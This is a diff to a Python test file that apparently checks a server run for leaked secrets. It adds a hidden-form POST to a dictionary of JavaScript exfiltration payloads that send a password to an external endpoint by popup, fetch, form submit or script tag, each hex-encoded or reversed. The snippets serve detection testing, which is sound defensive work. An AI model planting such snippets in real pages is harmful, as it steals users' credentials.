@@ -593,6 +593,12 @@ def test_no_encoding_of_any_secret_in_any_output_of_a_real_server_run(tmp_path, 
 HOSTILE_CHANNELS = {
     "popup": ('window.open(E + "/popup?d=" + encodeURIComponent(pw))', lambda p: p),
     "fetch-hex": ('fetch(E + "/fetch?d=" + hex(pw), {mode: "no-cors"})', lambda p: p.encode().hex()),
+    "form-target-blank": (
+        'const f = Object.assign(document.createElement("form"), {method: "post", action: E + "/form", '
+        'target: "_blank"}); f.append(Object.assign(document.createElement("input"), {name: "d", value: hex(pw)})); '
+        "document.body.append(f); f.submit()",
+        lambda p: p.encode().hex(),
+    ),
     "script-reversed": (
         'document.body.append(Object.assign(document.createElement("script"), '
         '{src: E + "/script?d=" + encodeURIComponent(rev(pw))}))',
